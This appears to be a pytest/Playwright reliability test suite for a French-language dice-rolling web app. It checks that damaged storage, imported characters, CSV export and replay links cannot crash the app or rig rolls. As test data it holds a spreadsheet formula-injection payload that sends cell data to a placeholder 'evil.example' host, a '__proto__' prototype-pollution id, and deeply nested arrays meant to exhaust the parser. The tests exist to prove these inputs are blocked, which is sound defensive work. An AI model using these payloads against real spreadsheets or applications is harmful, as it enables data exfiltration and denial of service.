"""Issue 14: nothing stored, imported or linked can stop the app, lose a roll, or load the
dice. One test (or more) per attack of the issue; each fails when its protection is removed
(docs/reliability.md lists the ones shown to fail that way).
"""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from .conftest import App, local_handle
from .helpers import (
    GOOD,
    GOOD_ENTRY,
    local,
    notice_text,
    put_record,
    quarantined,
    set_aside_items,
)

TRAP = {"toString": None}  # passes a shallow "is an object" check, throws when made a string


@pytest.fixture(scope="module")
def app(new_app: Any, site: str) -> Iterator[App]:
    app = new_app(site)
    app.page.route("**/favicon.ico", lambda route: route.fulfill(status=204, body=""))
    app.open()
    yield app
    app.context.close()


def roll_works(app: App, seed: int = 11) -> None:
    app.page.click("#tab-roll")
    app.page.wait_for_selector("#roll-button:not([disabled])")
    app.set_seed(seed)
    app.roll()
    app.settle()  # the form's state is saved 300 ms after the roll (debounced)


def history_ids(app: App) -> list[str]:
    return [e["id"] for e in json.loads(local(app).get("pyrules:history", "[]"))]


def entry(entry_id: str, time: str, **changes: Any) -> dict[str, Any]:
    return {**GOOD_ENTRY, "id": entry_id, "time": time, **changes}


def link_of(payload: Any) -> str:
    raw = (payload if isinstance(payload, str) else json.dumps(payload)).encode()
    return "#replay=" + base64.urlsafe_b64encode(raw).decode().rstrip("=")


# ------------------------------------------------------------------ 1. the app always starts


def test_systems_cache_with_string_choices_still_starts(app: App) -> None:
    """A description kept by another build (another digest) is drawn while the engine starts:
    damaged, it is set aside and told, and the engine's own answer is drawn."""
    description = local_handle({"op": "systems"})["result"]
    description["digest"] = "0123456789abcdef"  # kept by another build
    for field in description["systems"][0]["fields"]:
        if "choices" in field:
            field["choices"] = "revised"  # `choices.some is not a function` while drawn
    app.reset(stored={"pyrules:systems": description, "pyrules:state": {"system": "pool"}})
    roll_works(app)
    assert "la copie locale des systèmes de jeu" in notice_text(app, "corrupt")
    assert json.loads(quarantined(app, "pyrules:systems")[-1]) == description
    app.page.click("#notice-corrupt [data-action=close]")


def test_a_kept_description_that_claims_the_build_s_digest_is_not_read(app: App) -> None:
    """Issue 40: the page trusts only the digest of the description its build baked in. A
    kept one that claims that digest, whatever it holds, is not drawn: the build's own is,
    and the engine, saying the same digest at ready, is not asked for it."""
    description = local_handle({"op": "systems"})["result"]
    for field in description["systems"][0]["fields"]:
        if field["name"] == "pot":
            field["max"] = 3  # a bound the engine has not
    app.reset(stored={"pyrules:systems": description, "pyrules:state": {"system": "pool"}})
    roll_works(app)
    assert app.page.get_attribute("#f-actor-pool-pot", "max") == "40"
    kept = app.page.evaluate("() => JSON.parse(localStorage.getItem('pyrules:systems'))")
    assert kept == description  # no `systems` call at ready: nothing written over it


def test_history_entry_with_a_trap_param_is_set_aside(app: App) -> None:
    bad = entry(
        "h-trap", "2026-01-02T10:00:00.000Z", params={**GOOD_ENTRY["params"], "value": TRAP}
    )
    good = entry("h-good", "2026-01-01T10:00:00.000Z")
    app.reset(stored={"pyrules:history": [bad, good]})
    roll_works(app)
    assert "l’historique des jets" in notice_text(app, "corrupt")
    assert app.page.locator("#history .history-entry[data-id=h-good]").count() == 1
    assert app.page.locator("#history .history-entry[data-id=h-trap]").count() == 0
    assert any("h-trap" in raw for raw in quarantined(app, "pyrules:history"))
    assert "h-trap" not in history_ids(app)
    app.page.click("#notice-corrupt [data-action=close]")


def test_history_entry_that_does_not_fit_its_system_is_set_aside(app: App) -> None:
    """Deep check against the engine's description: a key the system has not."""
    odd = entry("h-odd", "2026-01-02T10:00:00.000Z", params={**GOOD_ENTRY["params"], "pot": 3})
    app.reset(stored={"pyrules:history": [odd, entry("h-good", "2026-01-01T10:00:00.000Z")]})
    app.page.wait_for_selector("#history .history-entry[data-id=h-good]")
    assert app.page.locator("#history .history-entry[data-id=h-odd]").count() == 0
    assert any("h-odd" in raw for raw in quarantined(app, "pyrules:history"))
    app.page.click("#notice-corrupt [data-action=close]")


def test_stored_rolls_are_worded_by_the_engine_not_by_what_they_carry(app: App) -> None:
    """A history read back keeps params, not words: each line is the engine's brief of them
    (steps: the whole bonus the roll adds, as a sheet's button says), words an entry carries
    (a forged `brief`) are never shown, and the CSV export says the same."""
    steps = {"die": 8, "bonus": 1, "weapons": [2, 3]}
    stepped = entry("h-steps", "2026-01-03T10:00:00.000Z", system="steps", params=steps,
                    outcome="success", margin=2)
    forged = entry("h-forged", "2026-01-02T10:00:00.000Z", brief={"fr": "POT 99", "en": "POT 99"})
    words = local_handle({"op": "briefs", "rolls": [
        {"system": "steps", "params": steps}, {"system": "d100", "params": GOOD_ENTRY["params"]},
    ]})["result"]["briefs"]
    assert "Bonus +4" in words[0]["fr"] and words[1]["fr"] != "POT 99"
    app.reset(stored={"pyrules:history": [stepped, forged]})
    app.page.click("#tab-history")
    said = """([id, text]) => document.querySelector(`#history [data-id=${id}] .history-summary`)
        ?.textContent === text"""
    app.page.wait_for_function(said, arg=["h-steps", words[0]["fr"]])
    app.page.wait_for_function(said, arg=["h-forged", words[1]["fr"]])
    with app.page.expect_download() as info:
        app.page.click("#export-csv")
    rows = list(csv.reader(io.StringIO(Path(info.value.path()).read_text(encoding="utf-8-sig"))))
    assert [row[3] for row in rows[1:]] == [words[0]["fr"], words[1]["fr"]]


def test_indexeddb_character_with_a_trap_param_leaves_the_screen_usable(app: App) -> None:
    app.reset()
    bad = {
        **GOOD,
        "id": "c-trap",
        "name": "Piégée",
        "entries": [{"id": "e-1", "label": "Tir", "params": {"value": TRAP}}],
    }
    put_record(app, GOOD)
    put_record(app, bad)
    app.reload()
    app.page.click("#tab-characters")
    app.page.wait_for_selector("#char-list .char-item[data-id=c-good]")
    assert app.page.locator("#view-characters .view-loading").count() == 0
    assert app.page.locator("#char-list .char-item[data-id=c-trap]").count() == 0
    assert app.page.is_enabled("#chars-export")
    assert "les personnages" in notice_text(app, "corrupt")
    app.page.click("#notice-corrupt [data-action=close]")
    roll_works(app)


SAFE_START = """
(() => {
  // One failure while the page draws its system picker, whatever the cause.
  let armed = true;
  const get = Document.prototype.getElementById;
  Document.prototype.getElementById = function (id) {
    if (armed && id === "systems") {
      armed = false;
      throw new Error("drawing failed (test)");
    }
    return get.call(this, id);
  };
})();
"""


def test_last_resort_safe_start(new_app: Any, site: str) -> None:
    app = new_app(site)
    app.expected_errors.append("safe start")
    app.context.add_init_script(SAFE_START)
    app.page.route("**/favicon.ico", lambda route: route.fulfill(status=204, body=""))
    app.open()
    assert app.page.get_attribute("body", "data-safe-start") == "true"
    assert "formulaire par défaut" in notice_text(app, "corrupt")
    app.page.wait_for_selector("#systems input[type=radio]")
    roll_works(app)
    app.context.close()


# ------------------------------------------------------------------ 2. several tabs


def test_two_tabs_rolling_at_once_lose_nothing_and_see_each_other(app: App) -> None:
    app.reset()
    other = App(app.context, app.base_url)
    other.open()
    try:
        for seed in (21, 22):
            # Both tabs click before either result is in: their writes cross.
            before = (app.shown(), other.shown())
            app.set_seed(seed)
            other.set_seed(seed + 100)
            # A tab in the background draws no frame, and a click waits for frames: each
            # tab is brought to the front before it is used, as a player's tap would.
            app.page.bring_to_front()
            app.page.click("#roll-button")
            other.page.bring_to_front()
            other.page.click("#roll-button")
            for page, n in ((app.page, before[0]), (other.page, before[1])):
                page.wait_for_function(
                    "(n) => Number(document.getElementById('result').dataset.shown || 0) > n", arg=n
                )
        for tab in (app, other):
            tab.page.wait_for_function(
                """() => {
                  const stored = JSON.parse(localStorage.getItem("pyrules:history") || "[]");
                  const drawn = document.querySelectorAll("#history .history-entry").length;
                  return stored.length === 4 && drawn === 4;
                }"""
            )
        seeds = sorted(e["seed"] for e in json.loads(local(app)["pyrules:history"]))
        assert seeds == [21, 22, 121, 122]
        # A character made in one tab shows in the other (BroadcastChannel).
        other.page.click("#tab-characters")
        other.page.wait_for_selector("#char-list")
        app.page.bring_to_front()
        app.page.click("#tab-characters")
        app.page.click("#char-new")
        app.page.fill("#char-name", "Voisine")
        app.page.click("#char-save")
        other.page.wait_for_selector("#char-list .char-card-name:text-is('Voisine')")
        # Clearing in one tab clears the other, and nothing comes back.
        app.page.click("#tab-roll")
        app.page.click("#clear-history")
        app.page.click("#confirm-clear button[value=confirm]")
        other.page.bring_to_front()
        other.page.click("#tab-roll")
        other.page.wait_for_selector("#history .history-empty")
        assert history_ids(other) == []
    finally:
        other.page.close()
        app.page.bring_to_front()


# ------------------------------------------------------------------ 3. no silent limit


def test_history_keeps_every_roll_and_pages_the_list(app: App) -> None:
    many = [
        entry(f"h-{i:04d}", f"2026-01-01T{10 + i // 3600:02d}:{i // 60 % 60:02d}:{i % 60:02d}.000Z")
        for i in range(600)
    ]
    many.reverse()  # newest first
    app.reset(stored={"pyrules:history": many})
    roll_works(app)
    assert len(history_ids(app)) == 601
    assert app.page.locator("#history .history-entry").count() == 201
    app.page.click("#history-more")
    app.page.wait_for_function(
        "() => document.querySelectorAll('#history .history-entry').length === 401"
    )
    with app.page.expect_download() as info:
        app.page.click("#export-json")
    assert len(json.loads(Path(info.value.path()).read_text(encoding="utf-8"))) == 601


# ------------------------------------------------------------------ 4. prototype traps

NO_IDB = "Object.defineProperty(window, 'indexedDB', { value: undefined, configurable: true });"


def test_character_with_id_proto_is_kept_without_indexeddb(
    new_app: Any, site: str, tmp_path: Path
) -> None:
    app = new_app(site)
    app.context.add_init_script(NO_IDB)
    app.page.route("**/favicon.ico", lambda route: route.fulfill(status=204, body=""))
    app.open()
    app.page.click("#tab-characters")
    doc = {
        "format": "pyrules-characters",
        "version": 1,
        "characters": [{**GOOD, "id": "__proto__", "name": "Proto"}],
    }
    path = tmp_path / "proto.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    app.page.set_input_files("#chars-import-file", str(path))
    app.page.wait_for_selector("#chars-message:has-text('importé')")
    app.reload()
    app.page.click("#tab-characters")
    app.page.wait_for_selector("#char-list .char-card-name:text-is('Proto')")
    stored = json.loads(local(app)["pyrules:characters"])
    assert [c["name"] for c in stored.values()] == ["Proto"]
    app.context.close()


# ------------------------------------------------------------------ 5. CSV


def test_csv_export_neutralises_formulas(app: App) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1;"ok")'
    app.reset(
        stored={
            "pyrules:history": [
                entry("h-f1", "2026-01-01T10:00:01.000Z", who={"name": formula, "label": "+1"}),
                entry("h-f2", "2026-01-01T10:00:00.000Z", who={"name": "@SUM(1)", "label": "-2"}),
            ]
        },
    )
    with app.page.expect_download() as info:
        app.page.click("#export-csv")
    rows = list(csv.reader(io.StringIO(Path(info.value.path()).read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(formula in cell for cell in cells)
    risky = [
        cell
        for cell in cells
        if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not cell[1:].isdigit())
    ]
    assert risky == []
    with app.page.expect_download() as info:
        app.page.click("#export-json")
    exported = json.loads(Path(info.value.path()).read_text(encoding="utf-8"))
    assert exported[0]["who"]["name"] == formula  # JSON unchanged


# ------------------------------------------------------------------ 6. no loaded dice


def test_stored_character_cannot_load_the_dice(app: App) -> None:
    app.reset()
    loaded = {
        **GOOD,
        "id": "c-loaded",
        "name": "Pipée",
        "system": "steps",
        "stats": {},
        "entries": [{"id": "e-1", "label": "Lame", "params": {"die": 8, "dice": [8]}}],
    }
    put_record(app, {**GOOD, "id": "c-good"})
    put_record(app, loaded)
    app.reload()
    page = app.page
    page.click("#tab-characters")
    # The engine checks what the page loads (issue 42): a sheet carrying faces is refused
    # (faces_in_sheet), set aside and told, never listed, so nothing can roll with them.
    sheet = {"character": loaded, "entry": "e-1"}
    refused = local_handle({"op": "roll", "system": "steps", "params": {"sheet": sheet}})
    assert refused["error"]["code"] == "faces_in_sheet"
    page.wait_for_selector("#notice-corrupt")
    page.wait_for_selector("#char-list .char-item[data-id=c-good]")
    assert page.locator("#char-list .char-item[data-id=c-loaded]").count() == 0
    # Set aside, not lost: the notice's download holds it, with the engine's words.
    aside = set_aside_items(app, "c-loaded")
    assert len(aside) == 1 and aside[0]["reason"] == "refused", aside
    app.settle()
    assert json.loads(local(app).get("pyrules:history") or "[]") == []
    # The engine itself refuses faces in a seeded request.
    answer = app.call(
        {"op": "roll", "system": "steps", "params": {"die": 8, "dice": [8]}, "seed": 7}
    )
    assert answer["error"]["code"] == "faces_in_sheet"


def test_imported_character_with_faces_is_refused(app: App, tmp_path: Path) -> None:
    app.reset()
    app.page.click("#tab-characters")
    bad = {
        **GOOD,
        "id": "c-dice",
        "system": "steps",
        "stats": {},
        "entries": [{"id": "e-1", "label": "Lame", "params": {"die": 8, "dice": [8]}}],
    }
    path = tmp_path / "loaded.json"
    path.write_text(json.dumps([bad]), encoding="utf-8")
    app.page.set_input_files("#chars-import-file", str(path))
    app.page.wait_for_selector("#chars-message[data-kind=error]")
    assert "faces de dés" in (app.page.text_content("#chars-message") or "")
    assert app.page.locator("#char-list .char-item").count() == 0


def test_luck_counts_seeded_rolls_only(app: App) -> None:
    physical = entry("h-phys", "2026-01-01T10:00:01.000Z", seed=None, physical=True, luck=1.0)
    session = {"start": "2026-01-01T00:00:00.000Z"}
    app.reset(stored={"pyrules:history": [physical], "pyrules:session": session})
    app.page.click("#tab-stats")
    app.page.wait_for_selector("#luck-histogram")
    assert app.page.get_attribute("#luck-histogram", "data-judged") == "0"


# ------------------------------------------------------------------ 7. replay links


@pytest.mark.parametrize(
    "payload",
    [
        {"v": 1, "system": "d100", "mode": "roll", "params": {"value": TRAP}, "seed": 3},
        # 5,000-deep nested array: a 13 kB link
        '{"v":1,"system":"d100","mode":"roll","seed":3,"params":{"value":'
        + "[" * 5000
        + "]" * 5000
        + "}}",
        # Issue 22: a link cut short by a messenger, and one that is not base64 at all.
        link_of({"v": 1, "system": "d100", "mode": "roll", "params": {}, "seed": 3})[:30],
        "#replay=%ZZ not a link",
    ],
    ids=["trap", "deep", "cut-short", "not-base64"],
)
def test_bad_replay_links_change_nothing(app: App, payload: Any) -> None:
    app.reset()
    roll_works(app)
    state = local(app)["pyrules:state"]
    history = history_ids(app)
    link = payload if isinstance(payload, str) and payload.startswith("#") else link_of(payload)
    app.page.evaluate("(hash) => { location.hash = hash; }", link)
    app.page.wait_for_selector("#form-error:not([hidden])")
    assert app.page.text_content("#form-error") == "Ce lien de rejeu est illisible ou incomplet."
    assert app.page.get_attribute("#result", "data-outcome") is None
    assert history_ids(app) == history
    assert local(app)["pyrules:state"] == state


@pytest.mark.parametrize(
    "payload",
    [
        {"v": 1, "system": "pool", "mode": "roll", "params": {"pot": 99}, "seed": 3},
        # A seeded link never carries dice faces: the engine refuses it (faces_in_sheet).
        {"v": 1, "system": "steps", "mode": "roll", "params": {"die": 8, "dice": [8]}, "seed": 3},
    ],
    ids=["out-of-range", "faces-with-seed"],
)
def test_replay_link_the_engine_refuses_restores_the_form(app: App, payload: Any) -> None:
    app.reset()
    app.pick_system("d100")
    roll_works(app)
    before = local(app)["pyrules:state"]
    app.page.evaluate("(hash) => { location.hash = hash; }", link_of(payload))
    app.page.wait_for_selector("#form-error:not([hidden]):has-text('ne peut pas être rejoué')")
    app.page.wait_for_selector(".side-form[data-system=d100]")
    assert (
        json.loads(local(app)["pyrules:state"])["system"] == json.loads(before)["system"] == "d100"
    )
    assert len(history_ids(app)) == 1


# ------------------------------------------------------------------ 8. window.pyrules.call


def test_call_never_throws_nor_rejects(app: App) -> None:
    answers = app.page.evaluate(
        """async () => {
          const circular = { op: "version" };
          circular.self = circular;
          const out = {};
          const cases = {
            bigint: { op: "roll", system: "pool", seed: 10n },
            circular,
            undefined: undefined,
            deepText: "[".repeat(5000),
            deepObject: {
              op: "roll", system: "pool", params: JSON.parse("[".repeat(5000) + "]".repeat(5000)),
            },
          };
          for (const [name, request] of Object.entries(cases)) {
            try {
              out[name] = await window.pyrules.call(request);
            } catch (error) {
              out[name] = { threw: String(error) };
            }
          }
          out.after = await window.pyrules.call({ op: "version" });
          return out;
        }"""
    )
    for name in ("bigint", "circular", "undefined"):
        assert (
            answers[name]["ok"] is False and answers[name]["error"]["code"] == "invalid_request"
        ), name
    for name in ("deepText", "deepObject"):
        assert answers[name]["error"]["code"] == "invalid_json", name
        assert "32" in answers[name]["error"]["message"]
    assert answers["after"]["ok"] is True  # the worker is alive
